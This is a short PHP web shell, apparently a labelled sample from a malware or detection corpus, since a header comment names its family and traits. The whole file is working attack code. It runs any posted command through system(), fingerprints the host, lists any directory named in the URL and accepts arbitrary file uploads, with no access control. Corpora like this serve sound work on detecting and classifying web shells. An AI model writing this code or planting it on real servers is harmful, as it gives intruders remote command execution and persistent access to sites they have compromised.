<?php
/* Family: webshell/panel
 * Style: small web panel whose command runs through a wrapper function
 * Trait: command execution plus host fingerprint, safe_mode probe, directory listing, upload form and disk figures in one file
 */
function run_it($c) { ob_start(); @system($c); return ob_get_clean(); }
echo '<pre>' . php_uname() . ' | safe_mode: ' . (ini_get('safe_mode') ? 'on' : 'off') . '</pre>';
echo 'free: ' . round(disk_free_space('/') / 1048576) . ' MB';
$here = isset($_GET['d']) ? $_GET['d'] : getcwd();
foreach (scandir($here) as $e) echo htmlspecialchars($e) . '<br>';
if (!empty($_FILES['up'])) move_uploaded_file($_FILES['up']['tmp_name'], $here . '/' . basename($_FILES['up']['name']));
if (isset($_POST['c'])) echo '<pre>' . htmlspecialchars(run_it($_POST['c'])) . '</pre>';
?>
<form method="post"><input name="c"></form>
<form method="post" enctype="multipart/form-data"><input type="file" name="up"><input type="submit"></form>
